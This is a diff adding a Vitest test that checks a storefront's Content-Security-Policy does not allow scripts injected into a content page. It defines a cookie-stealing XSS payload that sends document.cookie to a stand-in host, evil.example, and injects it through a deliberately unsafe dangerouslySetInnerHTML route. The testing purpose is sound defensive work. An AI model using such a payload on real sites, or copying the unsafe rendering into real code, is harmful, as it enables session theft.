@@ -1,0 +1,57 @@
+import { createHash } from 'node:crypto';
+import { join, resolve } from 'node:path';
+import { buildStorefront } from '@eyelet/server/pages/build.ts';
+import { createRenderer } from '@eyelet/server/pages/mount.ts';
+import { servePages } from '@eyelet/server/pages/serve.ts';
+import { type RunningShop, startShop } from '@eyelet/testing/start-shop.ts';
+import { createElement } from 'react';
+import type { ServerBuild } from 'react-router';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+
+const buildFolder = resolve(import.meta.dirname, '../../../apps/storefront/build');
+
+let running: RunningShop;
+
+const stolen = 'fetch("//evil.example/" + document.cookie)';
+/** What an author of content should never be able to write, in the three places where a page may have it. */
+const text = [
+  `<script>${stolen}</script>`,
+  `<script nonce="">${stolen}</script>`,
+  `</p><script type="module" async>${stolen}</script>`,
+].join('');
+
+/** The storefront with a content page that writes a text as it is, which none of its own does. */
+function careless(build: ServerBuild): ServerBuild {
+  const [id = '', route] = Object.entries(build.routes).find(([name]) => name === 'content/page') ?? [];
+  if (!route) throw new Error('the storefront has no content pages');
+  // biome-ignore lint/security/noDangerouslySetInnerHtml: the fault that is tried out
+  const page = () => createElement('p', { dangerouslySetInnerHTML: { __html: text } });
+  const module = { ...route.module, loader: () => ({ text }), headers: undefined, default: page };
+  return { ...build, routes: { ...build.routes, [id]: { ...route, module } } } as unknown as ServerBuild;
+}
+
+beforeAll(async () => {
+  await buildStorefront();
+  const build = (await import(join(buildFolder, 'server/index.js'))) as ServerBuild;
+  running = await startShop({
+    mountPages: (app, shop) => servePages(app, shop, () => Promise.resolve(createRenderer(careless(build))), undefined),
+  });
+}, 120_000);
+afterAll(() => running.close());
+
+const hashOf = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;
+
+test('a script that got into a page with a text does not get into its policy, and the own ones do', async () => {
+  const answer = await fetch(`${running.origin}/en-us/letter-to-customers`);
+  const policy = answer.headers.get('content-security-policy') ?? '';
+  const html = await answer.text();
+  const scripts = [...html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)].map(([, , script = '']) => script);
+  expect(scripts.filter((script) => script === stolen)).toHaveLength(3);
+  expect(policy).not.toContain(hashOf(stolen));
+  expect(policy).not.toContain("unsafe-inline' 'sha256");
+  const own = scripts.filter((script) => script !== stolen && script !== '');
+  expect(own.length).toBeGreaterThanOrEqual(3);
+  for (const script of own) expect(policy, script.slice(0, 80)).toContain(hashOf(script));
+  // Nobody who reads a page learns what would have let a script in.
+  expect(html.match(/nonce="[^"]+"/g)).toBeNull();
+});
